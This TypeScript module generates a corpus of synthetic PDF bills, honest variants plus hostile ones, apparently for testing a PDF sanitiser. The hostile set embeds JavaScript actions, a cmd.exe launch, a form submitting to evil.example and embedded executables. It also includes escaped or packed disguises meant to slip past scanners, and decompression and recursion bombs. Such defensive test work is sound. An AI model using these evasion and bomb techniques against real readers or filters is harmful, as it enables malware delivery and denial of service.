import { deflateSync } from 'node:zlib'
import { pdfFile, pdfStream } from './pdf-file.ts'

/** The words on each page of each file of the corpus. */
export const pageText = 'Conta de luz 4711'

type Objects = readonly (string | Buffer)[]
interface Made {
  readonly name: string
  readonly bytes: Buffer
}

const font = '/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>'
const words = (text = pageText) => Buffer.from(`BT /F1 18 Tf 40 700 Td (${text}) Tj ET`)
const box = '/MediaBox[0 0 595 842]'

/** A bill: objects 1 to 4, and `more` from 5 on. What is given is added to the catalogue or to the page. */
const bill = (catalogue = '', page = '', more: Objects = []): Objects => [
  `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  `<</Type/Page/Parent 2 0 R${box}${font}/Contents 4 0 R${page}>>`,
  pdfStream('', words()),
  ...more,
]

const annotation = (text: string) => `/Annots[<</Type/Annot/Rect[10 10 200 60]${text}>>]`
const drawn = pdfStream('/Type/XObject/Subtype/Form/BBox[0 0 100 20]', Buffer.from('0 0 100 20 re f'))
const grey = deflateSync(Buffer.alloc(64 * 64, 128))
const picture = pdfStream(
  '/Type/XObject/Subtype/Image/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode',
  grey,
)
/** Writes codes of 9 to 12 bits (7.4.4); 256 begins anew. */
function packedCodes(codes: Iterable<number>): Buffer {
  let [since, held, bits] = [0, 0, 0]
  const out: number[] = []
  for (const code of codes) {
    const width = [9, 10, 11].find((each) => 258 + since < 1 << each) ?? 12
    held = (held << width) | code
    for (bits += width; bits >= 8; bits -= 8) out.push((held >> (bits - 8)) & 255)
    held &= (1 << bits) - 1
    since = code === 256 ? 0 : since + 1
  }
  return Buffer.from([...out, held << (8 - bits)])
}

/** Packs data by LZW, as programs of the nineties packed their pages. */
function lzw(data: Buffer): Buffer {
  let known = new Map<string, number>()
  const codes = [256]
  let text = ''
  for (const letter of data.toString('latin1')) {
    if (text === '' || known.has(text + letter)) {
      text += letter
      continue
    }
    codes.push(known.get(text) ?? text.charCodeAt(0))
    known.set(text + letter, 258 + known.size)
    if (known.size > 3_800) {
      codes.push(256)
      known = new Map()
    }
    text = letter
  }
  return packedCodes([...codes, known.get(text) ?? text.charCodeAt(0), 257])
}

/** Packs data as letters, of which five are four bytes (7.4.3). */
function ascii85(data: Buffer): Buffer {
  const groups = Array.from({ length: Math.ceil(data.length / 4) }, (_, index) => {
    const part = data.subarray(index * 4, index * 4 + 4)
    let value = Buffer.concat([part, Buffer.alloc(4 - part.length)]).readUInt32BE()
    if (value === 0 && part.length === 4) return 'z'
    const digits = Array.from({ length: 5 }, () => {
      const digit = value % 85
      value = Math.floor(value / 85)
      return String.fromCharCode(33 + digit)
    })
    return digits
      .toReversed()
      .slice(0, part.length + 1)
      .join('')
  })
  return Buffer.from(`${groups.join('')}~>`)
}

const runs = (data: Buffer) => Buffer.concat([Buffer.from([data.length - 1]), data, Buffer.from([128])])

const packedWords = pdfStream('/Filter/FlateDecode', deflateSync(words()))

/** What honest programs write: each a kind of bill, scan or form. */
const honestKinds: Readonly<Record<string, Objects>> = {
  plain: bill(),
  'a web link': bill('', annotation('/Subtype/Link/A<</S/URI/URI(https://energia.example)>>')),
  'a link to a mail and a page': bill('/OpenAction[3 0 R/Fit]', annotation('/Subtype/Link/Dest[3 0 R/Fit]')),
  'an outline': bill('/Outlines 5 0 R', '', [
    '<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>',
    '<</Title(1)/Parent 5 0 R/Dest[3 0 R/Fit]>>',
  ]),
  'a link to another file': bill('', annotation('/Subtype/Link/A<</S/GoToR/F(tarifas.pdf)/D[0/Fit]>>')),
  'tax data attached': bill('/Names<</EmbeddedFiles<</Names[(nf.xml) 5 0 R]>>>>', '', [
    '<</Type/Filespec/F(nf.xml)/EF<</F 6 0 R>>>>',
    pdfStream('/Type/EmbeddedFile', Buffer.from('<nfe/>')),
  ]),
  'a filled form': bill('/AcroForm<</Fields[5 0 R]>>', '/Annots[5 0 R]', [
    '<</Type/Annot/Subtype/Widget/FT/Tx/T(nome)/V(Maria)/Rect[10 10 110 30]/AP<</N 6 0 R>>>>',
    drawn,
  ]),
  'a stamp': bill('', annotation('/Subtype/Stamp/AP<</N 5 0 R>>'), [drawn]),
  'a scan': bill('', '', [picture])
    .with(2, `<</Type/Page/Parent 2 0 R${box}/Resources<</XObject<</Im1 5 0 R>>/Font<</F1 6 0 R>>>>/Contents 7 0 R>>`)
    .concat([
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      pdfStream('', Buffer.concat([Buffer.from('q 200 0 0 200 40 300 cm /Im1 Do Q '), words()])),
    ]),
  'a page that inherits': [
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[5 0 R]/Count 1${box}${font}>>`,
    '<</Type/Page/Parent 5 0 R/Contents[4 0 R]>>',
    packedWords,
    '<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1/Rotate 0>>',
  ],
  'two pages': bill('', '', [`<</Type/Page/Parent 2 0 R${box}${font}/Contents 4 0 R>>`]).with(
    1,
    '<</Type/Pages/Kids[3 0 R 5 0 R]/Count 2>>',
  ),
  layers: bill('/OCProperties<</OCGs[5 0 R]/D<</ON[5 0 R]>>>>', '', ['<</Type/OCG/Name(Fundo)>>']),
  'letters that are drawings, one called A': bill('', '', [
    '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 65/LastChar 65/Widths[9]/Encoding<</Differences[65/A]>>/CharProcs<</A 6 0 R>>>>',
    pdfStream('', Buffer.from('9 0 0 0 9 9 d1 0 0 9 9 re f')),
  ]).with(
    2,
    `<</Type/Page/Parent 2 0 R${box}/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>/F2 5 0 R>>>>/Contents 4 0 R>>`,
  ),
  'contents as an old program packs them': bill().with(
    3,
    pdfStream('/Filter[/ASCII85Decode/LZWDecode]', ascii85(lzw(words()))),
  ),
  'contents in runs and digits': bill().with(
    3,
    pdfStream('/Filter[/AHx/RL]', Buffer.from(`${runs(words()).toString('hex')}>`)),
  ),
  'marks of a screen reader': bill('/MarkInfo<</Marked true>>/StructTreeRoot 5 0 R', '/StructParents 0', [
    '<</Type/StructTreeRoot/K 6 0 R>>',
    '<</Type/StructElem/S/P/P 5 0 R/K 0/Pg 3 0 R>>',
  ]),
  'notes of its maker': bill('/Metadata 5 0 R/PieceInfo<<>>', '', [
    pdfStream('/Type/Metadata/Subtype/XML', Buffer.from('<x/>')),
  ]),
}

const cut = (file: Buffer, mark: string) => file.subarray(0, file.lastIndexOf(mark))
const movedPointer = (file: Buffer, by: number) =>
  Buffer.from(
    file.toString('latin1').replace(/startxref\n(\d+)/, (_, at: string) => `startxref\n${Number(at) + by}`),
    'latin1',
  )

/** What happens to files on their way: every reader opens them all the same. */
const honestWays: Readonly<Record<string, (objects: Objects) => Buffer>> = {
  'as it is': (objects) => pdfFile(objects),
  'packed objects': (objects) => packedFile(objects),
  'packed objects with a predictor': (objects) => packedFile(objects, { predictor: true }),
  'blank lines first': (objects) => Buffer.concat([Buffer.from('\n\n'), pdfFile(objects)]),
  'a header of a mail first': (objects) =>
    Buffer.concat([Buffer.from('Content-Type: application/pdf\r\n\r\n'), pdfFile(objects)]),
  'padding behind its end': (objects) => Buffer.concat([pdfFile(objects), Buffer.alloc(4096)]),
  'a pointer one byte off': (objects) => movedPointer(pdfFile(objects), -1),
  'a pointer far off': (objects) => movedPointer(pdfFile(objects), 90_000),
  'no table': (objects) => cut(pdfFile(objects), 'xref\n0'),
  'no end mark': (objects) => cut(pdfFile(objects), '%%EOF'),
  'a newer version behind it': (objects) =>
    Buffer.concat([pdfFile(objects), update(pdfFile(objects), objects[0] ?? '')]),
}

/** The older file stays as it is, and a newer catalogue stands behind it. */
function update(before: Buffer, catalogue: string | Buffer): Buffer {
  const object = Buffer.concat([Buffer.from('1 0 obj\n'), Buffer.from(catalogue), Buffer.from('\nendobj\n')])
  const older = Number(/startxref\n(\d+)/.exec(before.toString('latin1'))?.[1])
  const at = before.length
  const table = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<</Size 20/Root 1 0 R/Prev ${older}>>\nstartxref\n${at + object.length}\n%%EOF\n`
  return Buffer.concat([object, Buffer.from(table)])
}

interface Packing {
  /** The packed objects are letters. */
  readonly letters?: boolean
  readonly predictor?: boolean
  /** Where the second table of a hybrid file is said to be, away from where it is. */
  readonly hybridOffBy?: number
}

/** A file in the form of most current programs: objects packed in a stream, found by a packed table. */
function packedFile(objects: Objects, { predictor = false, letters = false, hybridOffBy }: Packing = {}): Buffer {
  const isPlain = (object: string | Buffer) => typeof object === 'string'
  const count = objects.length
  const [container, table] = [count + 1, count + 2]
  let offset = 0
  const inside = objects.flatMap((object, index) =>
    isPlain(object) ? [{ number: index + 1, text: String(object) }] : [],
  )
  const heads = inside.map(({ number, text }) => {
    const head = `${number} ${offset}`
    offset += text.length + 1
    return head
  })
  const head = `${heads.join(' ')}\n`
  const body = Buffer.from(head + inside.map(({ text }) => text).join('\n'), 'latin1')
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const entries: number[][] = [[0, 0, 0, 0, 0]]
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  const here = () => [1, length() >> 16, (length() >> 8) & 255, length() & 255, 0]
  for (const [index, object] of objects.entries()) {
    const at = inside.findIndex(({ number }) => number === index + 1)
    if (at >= 0) entries.push([2, 0, container >> 8, container & 255, at])
    else {
      entries.push(here())
      parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'))
    }
  }
  const packed = (dictionary: string, data: Buffer, columns: number) => {
    if (letters) return pdfStream(`${dictionary}/Filter[/ASCII85Decode/FlateDecode]`, ascii85(deflateSync(data)))
    if (!predictor) return pdfStream(`${dictionary}/Filter/FlateDecode`, deflateSync(data))
    return pdfStream(
      `${dictionary}/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns ${columns}>>`,
      deflateSync(predicted(data, columns)),
    )
  }
  entries.push(here())
  parts.push(
    Buffer.from(`${container} 0 obj\n`),
    packed(`/Type/ObjStm/N ${inside.length}/First ${head.length}`, body, body.length),
    Buffer.from('\nendobj\n'),
  )
  entries.push(here())
  const at = length()
  const dictionary = `/Type/XRef/W[1 3 1]/Size ${table + 1}/Root 1 0 R`
  parts.push(
    Buffer.from(`${table} 0 obj\n`),
    packed(dictionary, Buffer.from(entries.flat()), 5),
    Buffer.from('\nendobj\n'),
  )
  let start = at
  if (hybridOffBy !== undefined) {
    start = length()
    const lines = entries.map(([kind, high = 0, middle = 0, low = 0]) => {
      const place = high * 65_536 + middle * 256 + low
      return kind === 1 ? `${String(place).padStart(10, '0')} 00000 n \n` : '0000000000 00000 f \n'
    })
    parts.push(
      Buffer.from(
        `xref\n0 ${entries.length}\n${lines.join('')}trailer\n<</Size ${table + 1}/Root 1 0 R/XRefStm ${at + hybridOffBy}>>\n`,
      ),
    )
  }
  parts.push(Buffer.from(`startxref\n${start}\n%%EOF\n`))
  return Buffer.concat(parts)
}

/** Rows that name their difference from the row above (PNG's filter 2). */
function predicted(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = []
  for (let at = 0; at < data.length; at += columns) {
    const row = Buffer.from(data.subarray(at, at + columns))
    for (const [index, byte] of row.entries()) row[index] = byte - (at === 0 ? 0 : (data[at - columns + index] ?? 0))
    rows.push(Buffer.from([2]), row)
  }
  return Buffer.concat(rows)
}

/** Honest files: each kind in each way. */
export function honestFiles(): Made[] {
  return Object.entries(honestKinds).flatMap(([kind, objects]) =>
    Object.entries(honestWays).map(([way, make]) => ({ name: `${kind}, ${way}`, bytes: make(objects) })),
  )
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const program = pdfStream('/Type/EmbeddedFile', Buffer.from('MZ'))

/** Files that do more than show pages. Object 5 is what does it. */
const hostileKinds: Readonly<Record<string, Objects>> = {
  'a script at the opening': bill('/OpenAction 5 0 R', '', [script]),
  'a script at the closing': bill('/AA<</WC 5 0 R>>', '', [script]),
  'a script of the page': bill('', '/AA<</O 5 0 R>>', [script]),
  'a script at a click': bill('', annotation('/Subtype/Link/A 5 0 R'), [script]),
  'a script by name': bill('/Names<</JavaScript<</Names[(x) 5 0 R]>>>>', '', [script]),
  'a script of a field': bill('/AcroForm<</Fields[6 0 R]>>', '/Annots[6 0 R]', [
    script,
    '<</Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K 5 0 R>>>>',
  ]),
  'a script after a link': bill('', annotation('/Subtype/Link/A<</S/URI/URI(http://x.example)/Next 5 0 R>>'), [script]),
  'a program to start': bill('/OpenAction 5 0 R', '', ['<</S/Launch/F(cmd.exe)>>']),
  'a form that sends itself': bill('', annotation('/Subtype/Widget/FT/Btn/A 5 0 R'), [
    '<</S/SubmitForm/F(https://evil.example)>>',
  ]),
  'data to bring in': bill('/OpenAction 5 0 R', '', ['<</S/ImportData/F(x.fdf)>>']),
  'a program in it': bill('/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>', '', [
    '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
    program,
  ]),
  'a program at a pin': bill('', annotation('/Subtype/FileAttachment/FS 5 0 R'), [
    '<</Type/Filespec/F(conta.pdf.js)/EF<</F 6 0 R>>>>',
    program,
  ]),
  'a film with a script': bill('', annotation('/Subtype/RichMedia/RichMediaContent 5 0 R'), ['<</Assets<<>>>>']),
  'a script in a tree of names': bill('/Names<</JavaScript<</Kids[6 0 R]>>>>', '', [
    script,
    '<</Kids[7 0 R]/Limits[(a)(z)]>>',
    '<</Names[(x) 5 0 R]/Limits[(a)(z)]>>',
  ]),
  'a file inside the file to open': bill('/OpenAction 5 0 R', '', ['<</S/GoToE/T<</R/C/N(a.pdf)>>>>']),
  'a form of programs': bill('/AcroForm<</XFA 5 0 R>>', '', [pdfStream('', Buffer.from('<xdp/>'))]),
}

const spelled = (objects: Objects) =>
  objects.map((object) =>
    typeof object === 'string'
      ? object
          .replaceAll('/JavaScript', '/#4aava#53cript')
          .replaceAll('/JS', '/#4AS')
          .replaceAll('/Launch', '/L#61unch')
      : object,
  )

/** Where what they do is hidden from a reader that looks for it. */
const hostileWays: Readonly<Record<string, (objects: Objects) => Buffer>> = {
  'in the open': (objects) => pdfFile(objects),
  'letters as numbers': (objects) => pdfFile(spelled(objects)),
  packed: (objects) => packedFile(objects),
  'packed with a predictor': (objects) => packedFile(objects, { predictor: true }),
  'in the second table': (objects) => packedFile(objects, { predictor: true, hybridOffBy: 0 }),
  'in a second table a byte early': (objects) => packedFile(objects, { predictor: true, hybridOffBy: -1 }),
  'without a table': (objects) => cut(pdfFile(objects), 'xref\n0'),
  'a pointer far off': (objects) => movedPointer(pdfFile(objects), 90_000),
  'packed as letters': (objects) => packedFile(objects, { letters: true }),
  'brought back by a newer version': (objects) => {
    const former = pdfFile(objects.with(0, '<</Type/Catalog/Pages 2 0 R>>'))
    return Buffer.concat([former, update(former, objects[0] ?? '')])
  },
  'behind a mail': (objects) => Buffer.concat([Buffer.from('From: x\r\n\r\n'), pdfFile(objects)]),
}

const flate = (dictionary: string, data: Buffer) => pdfStream(`${dictionary}/Filter/FlateDecode`, deflateSync(data))
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024)
const repeated = (text: string, bytes: number) => text.repeat(Math.ceil(bytes / text.length))

/** Files that cost their reader more than they are worth. `size` in bytes is how long the costly part is. */
export const costlyKinds: Readonly<Record<string, (size: number) => Buffer>> = {
  'blanks after a filter': (size) =>
    pdfFile([...bill(), Buffer.from(repeated(`<< /W /Filter${' '.repeat(500)}stream\n`, size))]),
  'streams without an end': (size) =>
    Buffer.concat([pdfFile(bill()), Buffer.from(repeated('9 0 obj<<>>stream\n', size))]),
  'objects without an end': (size) => Buffer.concat([Buffer.from(repeated('9 0 obj(', size)), pdfFile(bill())]),
  'strings without an end': (size) => pdfFile([...bill(), Buffer.from(repeated('<</A(', size))]),
  'hexadecimals without an end': (size) =>
    cut(pdfFile([...bill(), Buffer.from(repeated('8 0 obj <4', size))]), 'xref\n0'),
  'lists in lists': (size) => pdfFile([...bill(), Buffer.from(repeated('[', size))]),
  'dictionaries in dictionaries': (size) => pdfFile([...bill(), Buffer.from(repeated('<</A', size))]),
  'words that begin an object': (size) => Buffer.concat([pdfFile(bill()), Buffer.from(repeated('1 0 obj ', size))]),
  trailers: (size) => Buffer.concat([cut(pdfFile(bill()), 'xref\n0'), Buffer.from(repeated('trailer<<', size))]),
  pointers: (size) => Buffer.concat([pdfFile(bill()), Buffer.from(repeated('startxref\n', size))]),
  comments: (size) =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(repeated('%obj\n', size)), pdfFile(bill())]),
  'a million values': (size) => pdfFile([...bill(), Buffer.from(`[${repeated('1 ', size)}]`)]),
  'a table of lines that says much': (size) =>
    Buffer.from(
      `%PDF-1.7\n${repeated('0000000009 00000 n \n', size)}xref\n0 99999999\ntrailer<</Root 1 0 R>>\nstartxref\n${9 + Math.ceil(size / 20) * 20}\n%%EOF`,
    ),
  digits: (size) => Buffer.concat([pdfFile(bill()), Buffer.from(repeated('7', size)), Buffer.from(' 0 obj')]),
}

/** Page contents that unpack to more than a reader can hold, by each filter and by two. */
export function contentBombs(): Made[] {
  const megabytes = deflateSync(zeros(80))
  // Each code stands for one blank more than the one before: seven megabytes in five kilobytes.
  const longCodes = [256, 32, ...Array.from({ length: 3_830 }, (_, index) => 258 + index)]
  const made: Record<string, readonly [dictionary: string, data: Buffer]> = {
    'contents that call themselves a picture': ['/Subtype/Image/Width 1/Height 1/Filter/FlateDecode', megabytes],
    'contents packed twice': ['/Filter[/FlateDecode/FlateDecode]', deflateSync(megabytes)],
    'contents packed as letters': ['/Filter[/ASCII85Decode/FlateDecode]', ascii85(megabytes)],
    'contents packed as digits': ['/Filter[/ASCIIHexDecode/Fl]', Buffer.from(`${megabytes.toString('hex')}>`)],
    'contents packed by codes': ['/Filter/LZWDecode', packedCodes(Array(10).fill(longCodes).flat())],
    'contents of runs': ['/Filter/RunLengthDecode', Buffer.from('\x81 '.repeat(2_000_000), 'latin1')],
    'contents of codes of runs': ['/Filter[/Fl/RL]', deflateSync(Buffer.from('\x81 '.repeat(2_000_000), 'latin1'))],
  }
  return Object.entries(made).map(([name, [dictionary, data]]) => ({
    name,
    bytes: pdfFile(bill().with(3, pdfStream(dictionary, data))),
  }))
}

/** Drawings inside drawings that are drawn billions of times, in a few kilobytes. */
export function drawingBombs(): Made[] {
  const chained = (levels: number, draw: string) =>
    pdfFile(
      withResources(
        '/XObject<</X 5 0 R>>',
        Array.from({ length: levels }, (_, level) =>
          pdfStream(
            `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${level + 6} 0 R>>>>`,
            Buffer.from(draw),
          ),
        ).concat(drawn),
      ).with(3, pdfStream('', Buffer.from(draw))),
    )
  return [
    { name: 'drawings that are drawn twice, 30 times over', bytes: chained(30, '/X Do /X Do') },
    { name: 'drawings that are drawn a hundred times, five times over', bytes: chained(5, '/X Do '.repeat(100)) },
    { name: 'drawings with a note before each use', bytes: chained(30, '/X%\nDo /X %\n Do') },
  ]
}

const withResources = (resources: string, more: Objects = []) =>
  bill('', '', more).with(2, `<</Type/Page/Parent 2 0 R${box}/Resources<<${resources}>>/Contents 4 0 R>>`)

/** Files that ask a reader to run what is neither action nor script by name. */
export const runningKinds: Readonly<Record<string, Buffer>> = {
  'a drawing in PostScript': pdfFile(
    withResources('/XObject<</X 5 0 R>>', [pdfStream('/Type/XObject/Subtype/PS', Buffer.from('(x) run'))]),
  ),
  'an address that is a script': pdfFile(
    bill('', annotation('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>')),
  ),
  'a text among the numbers of a font': pdfFile(
    withResources('/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 0 0 1 0 (0\\); run)]>>>>'),
  ),
}

/** Files of a fixed size that unpack, repeat or point at themselves without an end. */
function bombs(): Made[] {
  const xref = (dictionary: string, data: Buffer) => {
    const object = Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n'),
      flate(dictionary, data),
      Buffer.from('\nendobj\n'),
    ])
    return Buffer.concat([object, Buffer.from('startxref\n9\n%%EOF\n')])
  }
  const made: Record<string, Buffer> = {
    'a table that unpacks': xref('/Type/XRef/W[1 2 1]/Size 9999999/Root 1 0 R', zeros(60)),
    'a table of width zero': xref('/Type/XRef/W[0 0 0]/Size 999999999/Root 1 0 R', zeros(1)),
    'a table of a billion': xref(
      '/Type/XRef/W[1 2 1]/Index[0 1000000000]/Size 1000000000/Root 1 0 R',
      Buffer.alloc(4_000_000, 1),
    ),
    'a table at itself': Buffer.from('%PDF-1.7\nxref\n0 0\ntrailer<</Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF'),
    'page contents that unpack': pdfFile(bill().with(3, flate('', zeros(200)))),
    'a font that unpacks': pdfFile(
      bill('', '', [flate('/Length1 9', zeros(200)), '<</FontFile2 5 0 R>>']).with(
        2,
        `<</Type/Page/Parent 2 0 R${box}/Resources<</Font<</F1<</Subtype/TrueType/FontDescriptor 6 0 R>>>>>>/Contents 4 0 R>>`,
      ),
    ),
    'objects that unpack': Buffer.concat([
      cut(pdfFile(bill('', '/Group 9 0 R', [flate('/Type/ObjStm/N 1/First 4', zeros(200))])), 'xref\n0'),
    ]),
    'objects packed twice': pdfFile([
      ...bill(),
      pdfStream('/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(zeros(50)))),
    ]),
    'objects that are many': Buffer.concat([
      cut(pdfFile([...bill(), pdfStream('/Type/ObjStm/N 999999999/First 4', Buffer.from('1 0 1 0'))]), 'xref\n0'),
    ]),
    'a length of itself': pdfFile(bill().with(3, Buffer.from('<</Length 4 0 R>>stream\nq Q\nendstream'))),
    'a container in itself': Buffer.concat([
      cut(pdfFile([...bill(), flate('/Type/ObjStm/N 1/First 4', Buffer.from('5 0 <<>>'))]), 'xref\n0'),
    ]),
    'pages in themselves': pdfFile(bill().with(1, '<</Type/Pages/Kids[2 0 R]/Count 1>>')),
    'a hundred thousand pages': pdfFile(bill().with(1, `<</Type/Pages/Kids[${'3 0 R '.repeat(100_000)}]/Count 1>>`)),
    'pages of pages': pdfFile([
      ...bill().with(1, `<</Type/Pages/Kids[${'<</Kids[5 0 R]>> '.repeat(2_000)}]/Count 1>>`),
      `[${'<</Type/Page>> '.repeat(2_000)}]`,
    ]),
    'a reference to itself': pdfFile(bill('', '/Group 5 0 R', ['5 0 R'])),
    'forms in each other': pdfFile(
      bill('', '', [
        pdfStream('/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>', Buffer.from('/X Do')),
      ]).with(2, `<</Type/Page/Parent 2 0 R${box}/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>`),
    ),
    'a picture of a billion pixels': pdfFile(
      bill('', '', [
        pdfStream('/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 1/ColorSpace/DeviceGray', Buffer.alloc(9)),
      ]).with(2, `<</Type/Page/Parent 2 0 R${box}/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>`),
    ),
    'a script where a number is due': pdfFile(
      bill('', '', [`<</Type/Font/Subtype/Type1/FontMatrix[1 2 3 (0\\); alert\\(1\\)) 5 ${script}]>>`]),
    ),
    encrypted: pdfFile(bill(), '/Encrypt<</Filter/Standard/V 9>>'),
    'encrypted by a reference to nothing': pdfFile(bill(), '/Encrypt 99 0 R'),
    'no pages': pdfFile(['<</Type/Catalog>>']),
    'nothing but a header': Buffer.from('%PDF-1.7\n'),
    'a header and noise': Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(Array.from({ length: 5_000 }, (_, index) => (index * 7919) % 251)),
    ]),
  }
  return Object.entries(made).map(([name, bytes]) => ({ name, bytes }))
}

/** Hostile files: what they do in each place where it can be hidden, what costs too much, and what never ends. */
export function hostileFiles(): Made[] {
  const doing = Object.entries(hostileKinds).flatMap(([kind, objects]) =>
    Object.entries(hostileWays).map(([way, make]) => ({ name: `${kind}, ${way}`, bytes: make(objects) })),
  )
  const costly = Object.entries(costlyKinds).map(([name, make]) => ({ name, bytes: make(400_000) }))
  const running = Object.entries(runningKinds).map(([name, bytes]) => ({ name, bytes }))
  return [...doing, ...costly, ...running, ...contentBombs(), ...drawingBombs(), ...bombs()]
}
